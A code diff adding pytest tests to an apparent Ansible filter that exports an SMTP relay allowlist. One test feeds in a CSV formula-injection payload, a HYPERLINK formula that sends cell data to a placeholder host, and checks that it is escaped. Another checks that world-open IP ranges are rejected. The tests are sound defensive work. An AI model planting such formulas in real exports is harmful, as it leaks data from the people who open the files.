@@ -58,3 +58,19 @@ def test_duplicate_fqdn_is_an_error(name):
 def test_not_a_request_is_an_error():
     with pytest.raises(AnsibleError, match="at least fqdn"):
         render("{{ requests | smtp.relay.allowlist_fleet_csv }}", requests=[{"ipv4": []}])
+
+
+def test_fleet_csv_neutralises_formulas_from_any_host():
+    evil = request("a.example.test", team='=HYPERLINK("http://x.example/?"&A1)', purpose="@SUM(1)", contact="-1")
+    got = render("{{ requests | smtp.relay.allowlist_fleet_csv }}", requests=[evil])
+    row = got.splitlines()[1]
+    assert row.startswith('a.example.test,\'@SUM(1),10.89.0.11,,"\'=HYPERLINK(""http://x.example/?""&A1)",\'-1,')
+
+
+@pytest.mark.parametrize("name", ["allowlist_fleet_csv", "allowlist_fleet_markdown"])
+@pytest.mark.parametrize(
+    ("field", "value"), [("ipv4", ["0.0.0.0/0"]), ("ipv6", ["::/0"]), ("ipv6", ["::ffff:127.0.0.1"])]
+)
+def test_world_granting_request_is_an_error(name, field, value):
+    with pytest.raises(AnsibleError, match=field):
+        render("{{ requests | smtp.relay." + name + " }}", requests=[request("a.example.test", **{field: value})])
